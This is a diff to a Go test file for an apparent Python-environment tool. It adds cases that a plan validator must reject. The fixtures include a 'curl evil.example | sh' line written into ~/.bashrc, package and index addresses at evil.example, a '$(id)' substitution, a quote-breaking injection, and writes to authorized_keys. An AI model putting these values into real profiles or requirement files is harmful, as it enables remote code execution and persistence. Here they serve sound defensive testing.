@@ -15,6 +15,7 @@ func TestThreat18HostileBuild(t *testing.T) {
 	for operands, want := range map[string]string{
 		"torch==2.9.1": "", "x @ git+https://h/x@1 ; os_name == 'nt'": "git+https://h/x@1", "x @ file:///tmp/x": "file:///tmp/x", "git+file:///x": "git+file:///x",
 		"./evil": "./evil", "..": "..", "--editable|/tmp/x": "/tmp/x", "--find-links|/tmp/x|torch": "", "--only-binary|:all:|x @ https://h/x.whl": "",
+		"--only-binary|:all:|--no-binary|x|y==2|x==1": "x==1", "--no-binary|x|y==2": "x",
 	} {
 		p := &plan.Plan{Steps: []plan.Step{{ID: "x", Run: &plan.Run{Argv: append(slices.Clone(uv), strings.Split(operands, "|")...)}}}}
 		if got := strings.Join(Built(p), " "); got != want {
@@ -56,6 +57,7 @@ func TestThreat18HostilePlan(t *testing.T) {
 		"an option to the copier":       {ID: "x", Copy: &plan.Copy{Dir: ".venv", Packages: []string{"-c"}}},
 		"a profile":                     write("/home/me/.bashrc", "x"), "authorized_keys": write("/home/me/.ssh/authorized_keys", "x"), "beside": write("../x", "x"), "setup.py": write("setup.py", "x"),
 		"an option in the list": write("{gen}/envfix-requirements.txt", "--index-url https://evil.example/\n"), "one behind a name": write("{gen}/envfix-carried.txt", "torch==1 --config-settings=x=y\n"),
+		"an address in what is held": write("{gen}/envfix-constraint.txt", "x @ https://evil.example/x.whl\n"), "held elsewhere": with("--constraint", "/tmp/c", "x"),
 		"an executable":          {ID: "x", Write: &plan.Write{Path: "pyproject.toml", Mode: 0o755}},
 		"a program in a profile": block("/home/me/.bashrc", "curl evil.example | sh"), "a substitution": block("/home/me/.bashrc", "LD_LIBRARY_PATH=$(id)"),
 		"a quote": block("/home/me/.bashrc", "export PYTHONNOUSERSITE='1'; id; ''"), "a profile of others": block("/home/you/.bashrc", "unset PYTHONHOME"), "a block elsewhere": block("/etc/profile", "unset PYTHONHOME"),
@@ -69,7 +71,10 @@ func TestThreat18HostilePlan(t *testing.T) {
 		}
 	}
 	for name, s := range map[string]plan.Step{
-		"pip":               with("--index-url", "https://download.pytorch.org/whl/cu126", "--only-binary", ":all:", "torch==2.9.1+cu126"),
+		"pip": with("--index-url", "https://download.pytorch.org/whl/cu126", "--only-binary", ":all:", "torch==2.9.1+cu126"),
+		"what is held": with("--only-binary", ":all:", "--no-binary", "x", "--constraint", "{gen}/envfix-constraint.txt", "--override", "{gen}/envfix-override.txt",
+			"--build-constraint", "{gen}/envfix-build-constraint.txt", "--exclude-newer", "2024-05-31T23:59:59Z", "x==1"),
+		"an override":       write("{gen}/envfix-override.txt", "numpy<3 ; python_version >= '3.9'\n"),
 		"a profile":         block("/home/me/.bashrc", `LD_LIBRARY_PATH=$(printf %s "${LD_LIBRARY_PATH-}" | tr ':' '\n' | { grep -Fxv -- '/usr/local/cuda/lib64' || :; } | paste -sd: -)`),
 		"Windows' launcher": run("py", "-3.13t", "-m", "venv", "{gen}"),
 		"uv":                run("{envfix}", "__bring", "--default-index", "https://index.example/simple", "uv", "{tools}/uv"), "python": run("{envfix}", "__bring", "python", "{tools}/python"),
